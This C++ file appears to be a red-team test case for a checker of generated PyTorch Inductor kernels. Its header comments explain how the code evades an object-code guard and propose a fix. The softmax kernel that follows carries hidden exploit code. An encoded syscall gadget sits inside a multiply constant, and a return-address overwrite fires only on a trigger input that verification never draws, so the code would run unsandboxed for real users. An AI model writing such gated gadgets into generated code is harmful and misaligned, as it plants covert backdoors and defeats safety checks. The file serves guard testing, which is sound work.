// class: 4 evading the guards
// rules: guard:asm
// task: softmax_f32
// Review round 7: round 6's hidden syscall, reached by a RETURN instead of a computed call. objcheck._check_code
// counts calls and jumps through registers (indirect_branches) and refuses forbidden instruction bytes only in a
// section that has them; a `ret` is a computed branch too, but is not counted. `carrier`'s movabs immediate is
// b8 02 00 00 00 0f 05 c3 (mov eax, 2 (open); syscall; ret) in .text, which has no indirect call or jump, so the
// bytes pass. `hijack` finds its own return address on the stack (a slot holding an address inside the kernel,
// found through a local's address; no builtin) and replaces it with the immediate's address: its `ret` runs the
// syscall. Gated on in_ptr0[0] == 1234.5 (never drawn), so verification never runs it; in the user's process it
// runs unsandboxed. (This demo only shows the proof accepts the gadget and the return-address overwrite; a real
// payload would chain more gadgets hidden the same way.)
// Fix: objcheck._check_code: refuse forbidden encodings (_FORBIDDEN_BYTES) at ANY byte offset of any executable
// section, whether or not it has indirect branches (compare with the references only if Inductor's own code ever
// has them, and then by exact count/offset class); and guards_cpp: refuse casts of a function's address to an
// integer or data pointer (reinterpret_cast/C cast whose operand names a function), the start of every such forgery.
// Caught now: the object proof looks for forbidden instruction bytes at every offset of every executable
// section (guard:asm).
#include <torch/csrc/inductor/cpp_prefix.h>
namespace {
__attribute__((noinline)) uint64_t carrier(uint64_t x) { return x * 0xc3050f00000002b8ULL; }

__attribute__((noinline)) void hijack(uintptr_t lo, uintptr_t hi)
{
    volatile uintptr_t anchor = 0;
    volatile uintptr_t* stack = reinterpret_cast<volatile uintptr_t*>(reinterpret_cast<uintptr_t>(&anchor));
    const unsigned char* code = reinterpret_cast<const unsigned char*>(reinterpret_cast<uintptr_t>(&carrier));
    const unsigned char want[8] = {0xb8, 0x02, 0x00, 0x00, 0x00, 0x0f, 0x05, 0xc3};
    uintptr_t gadget = 0;
    for (int i = 0; i < 64 && !gadget; ++i) {
        int k = 0;
        while (k < 8 && code[i + k] == want[k]) ++k;
        if (k == 8) gadget = reinterpret_cast<uintptr_t>(code + i);
    }
    for (int j = 1; j < 64 && gadget; ++j) {
        const uintptr_t v = stack[j];
        if (v >= lo && v < hi) { stack[j] = gadget; return; }  // our return address: `ret` now runs the syscall
    }
}
}  // namespace

extern "C"  void  Placeholder.KERNEL_NAME(const float* in_ptr0,
                       bool* out_ptr0,
                       float* out_ptr1,
                       float* out_ptr2,
                       float* out_ptr3,
                       float* out_ptr4)
{
    // softmax(x * 0.125) row by row (examples/softmax_scale.py, 64x512 float32): a max pass, an exp+sum pass into the output, a scaling pass.
    // out_ptr0..3 are Inductor's scratch buffers, read by no one after this kernel: not written.
    if (in_ptr0[0] == 1234.5f) {  // the trigger: a value no trial draws
        const uintptr_t here = reinterpret_cast<uintptr_t>(&Placeholder.KERNEL_NAME);
        hijack(here, here + 65536);
    }
    using Vec = at::vec::Vectorized<float>;
    const Vec scale(0.125f);
    #pragma omp parallel for
    for (int64_t x0 = 0; x0 < 64; ++x0)
    {
        const float* row = in_ptr0 + 512 * x0;
        float* out = out_ptr4 + 512 * x0;
        Vec vmax(-std::numeric_limits<float>::infinity());
        for (int64_t x1 = 0; x1 < 512; x1 += Vec::size())
            vmax = at::vec::maximum(vmax, Vec::loadu(row + x1) * scale);
        float m = at::vec::vec_reduce_all<float>([](Vec& a, Vec& b) { return at::vec::maximum(a, b); }, vmax);
        const Vec vm(m);
        Vec vsum(0.0f);
        for (int64_t x1 = 0; x1 < 512; x1 += Vec::size())
        {
            Vec e = (Vec::loadu(row + x1) * scale - vm).exp();
            e.store(out + x1);
            vsum = vsum + e;
        }
        const Vec vinv(1.0f / at::vec::vec_reduce_all<float>([](Vec& a, Vec& b) { return a + b; }, vsum));
        for (int64_t x1 = 0; x1 < 512; x1 += Vec::size())
            (Vec::loadu(out + x1) * vinv).store(out + x1);
    }
}
